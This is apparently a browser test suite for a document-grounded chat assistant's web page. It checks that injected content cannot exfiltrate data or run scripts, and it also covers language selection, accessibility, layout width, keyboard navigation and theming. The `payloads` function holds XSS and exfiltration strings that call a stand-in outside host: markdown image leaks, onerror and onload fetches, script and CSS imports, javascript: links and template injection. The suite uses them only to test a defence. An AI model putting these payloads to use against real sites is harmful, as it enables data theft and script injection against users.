"""Around the conversation: safety, languages, documents, and everyone who reads differently."""

import pytest
from axe_playwright_python.sync_playwright import Axe

from assistant import ScriptedChat
from assistant.ui.strings import strings
from evals.provider import Provider

from .conftest import ask, go
from .test_page import QUESTIONS

pytestmark = pytest.mark.browser


def payloads(there):
    return {
        "markdown": f"![x]({there}/?q=secret)",
        "html": f"<img src={there}/x.png onerror=\"fetch('{there}/e')\">",
        "script": f"<script>fetch('{there}/s')</script><script src={there}/t.js></script>",
        "style": f"<style>@import '{there}/c.css'; p {{ background: url({there}/b) }}</style>",
        "svg": f"<svg onload=\"fetch('{there}/o')\"><image href='{there}/i'/></svg>",
        "link": f"[click](javascript:fetch('{there}/j')) <{there}/a>",
        "template": f"${{fetch('{there}/h')}} {{{{constructor.constructor('alert(1)')()}}}}",
    }


@pytest.mark.parametrize("kind", payloads(""))
def test_G02_G03_H04_nothing_a_model_or_a_document_says_leaves_the_page(
    serve, visit, tmp_path, elsewhere, kind
):
    there, log = elsewhere
    payload = payloads(there)[kind]
    (tmp_path / "docs").mkdir()
    text = f"{payload}\nThe bridge was opened in May. {payload}\nIt cost 12 million euros.\n"
    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
    said = f"The bridge was opened in May [1]. {payload} [1] It cost 12 million euros [1]."
    page = visit(serve(tmp_path / "docs", ScriptedChat([[*said]])))
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    turn = ask(page, "When was the bridge opened?")
    turn.locator(".cite").first.click()
    page.locator("#source mark.here").first.wait_for()
    turn.locator(".cite").first.hover()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    go(page, "talk")
    page.reload()  # and once more, from what the browser kept
    page.locator(".turn[data-settled]").wait_for()
    assert log == []
    assert page.foreign == []
    assert alerts == []
    content = "#turns {0}, #source {0}, #listed {0}, #peek {0}, #kept {0}"
    for tag in ("img", "script", "a", "style", "iframe", "image"):
        assert page.locator(content.format(tag)).count() == 0


def test_G02_even_markup_in_the_page_could_neither_run_nor_load(serve, visit, seeds, elsewhere):
    there, log = elsewhere
    page = visit(serve(seeds))
    page.evaluate(
        """there => { document.getElementById('turns').innerHTML =
            `<img src="${there}/i"><img src=x onerror="window.ran=1"><iframe src="${there}/f">
             </iframe><link rel=stylesheet href="${there}/c"><form action="${there}/p"></form>`;
          const script = document.createElement('script');
          script.textContent = 'window.ran = 2';
          document.body.append(script);
          fetch(there + '/x').catch(() => { document.body.dataset.refused = ''; });
        }""",
        there,
    )
    page.locator("body[data-refused]").wait_for()
    page.evaluate("document.querySelector('#turns form').submit()")
    assert page.evaluate("window.ran") is None
    assert log == []


@pytest.mark.parametrize("language", ["en", "fr", "de", "it"])
def test_H15_the_page_speaks_the_browsers_language(serve, visit, seeds, language):
    page = visit(serve(seeds), locale=language)
    said = strings(language)
    assert page.evaluate("document.documentElement.lang") == language
    assert page.locator("#box").get_attribute("placeholder") == said["placeholder"]
    assert page.locator(".tab[data-tab=documents]").inner_text() == said["tab_documents"]


def test_H15_another_language_can_be_chosen_and_is_remembered(serve, visit, seeds):
    page = visit(serve(seeds))
    ask(page, QUESTIONS["de"])
    page.select_option("#language", "it")
    page.get_by_text(strings("it")["new"]).wait_for()
    assert page.evaluate("document.documentElement.lang") == "it"
    page.locator(".turn[data-settled] .answer[lang=de]").wait_for()  # the answer keeps its own
    page.reload()
    page.wait_for_selector("#attesto[data-ready]")
    assert page.evaluate("document.documentElement.lang") == "it"


def serious(page):
    found = Axe().run(page).response["violations"]
    return [
        (fault["id"], fault["nodes"][0]["target"], fault["nodes"][0].get("failureSummary"))
        for fault in found
        if fault["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_H14_axe_finds_no_serious_fault(serve, visit, tmp_path, scheme, width):
    folder = tmp_path / "docs"
    folder.mkdir()
    text = "The bridge was opened in May. It cost 12 million euros.\n\nBridges are long.\n"
    (folder / "bridge.txt").write_text(text, encoding="utf-8")
    (folder / "pont.txt").write_text("Le pont a coûté 12 millions d'euros.\n", encoding="utf-8")
    (folder / "photo.bin").write_bytes(b"\x00")
    replies = ["It was opened in May [1]. It cost 21 million euros [1].", "NOT_IN_DOCUMENTS"]
    page = visit(
        serve(folder, ScriptedChat(replies), door={"allow_upload": True}),
        viewport={"width": width, "height": 800},
        color_scheme=scheme,
        bypass_csp=True,
    )
    assert serious(page) == []
    turn = ask(page, "What did the bridge cost?")
    turn.locator(".why").click()
    assert serious(page) == []
    page.keyboard.press("Escape")
    turn.locator(".unhelpful").click()
    assert serious(page) == []
    ask(page, "How high is Mont Blanc?")
    page.locator(".cite").first.click()
    page.locator("#source mark.here").first.wait_for()
    assert serious(page) == []
    page.locator("[data-do=close]").click()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    assert serious(page) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_H14_axe_finds_no_serious_fault_in_sides_and_translations(serve, visit, seeds, scheme):
    with Provider() as provider:
        page = visit(
            serve(seeds, "faithful", base_url=provider.url),
            viewport={"width": 1280, "height": 800},
            color_scheme=scheme,
            bypass_csp=True,
        )
        turn = ask(page, "How much could AI contribute to Russia's GDP by 2030?")
        turn.locator(".side").first.wait_for()
        turn.locator(".cite").first.click()
        page.locator("#gloss button").click()
        page.locator("#gloss .by").wait_for()
        assert serious(page) == []


@pytest.mark.parametrize("width", [320, 390, 768, 1280, 1920])
def test_H14_nothing_is_wider_than_the_screen(serve, visit, seeds, width):
    page = visit(serve(seeds), viewport={"width": width, "height": 844}, color_scheme="dark")
    turn = ask(page, "Donaudampfschifffahrtsgesellschaft" * 8 + " " + QUESTIONS["en"])
    if turn.locator(".cite").count():
        turn.locator(".cite").first.click()
        page.locator("#source mark.here").first.wait_for()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_H14_the_keyboard_reaches_question_citation_and_source(serve, visit, seeds):
    page = visit(serve(seeds))
    page.keyboard.press("Shift+Tab")
    page.locator("body").press("Tab")
    page.locator("#box").focus()
    page.keyboard.type(QUESTIONS["fr"])
    page.keyboard.press("Enter")
    page.locator(".turn[data-settled]").wait_for()
    page.locator("[data-do=close]").click()
    page.locator("#turns").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "cite"
    page.keyboard.press("Enter")
    page.locator("#source mark.here").first.wait_for()
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.className") == "cite"  # back where it was


def test_dark_and_light_follow_the_system_until_one_is_chosen(serve, visit, seeds):
    page = visit(serve(seeds), color_scheme="dark")
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(ground)
    page.click("[data-do=theme]")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    assert page.evaluate(ground) != dark
    page.reload()
    page.wait_for_selector("#attesto[data-ready]")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
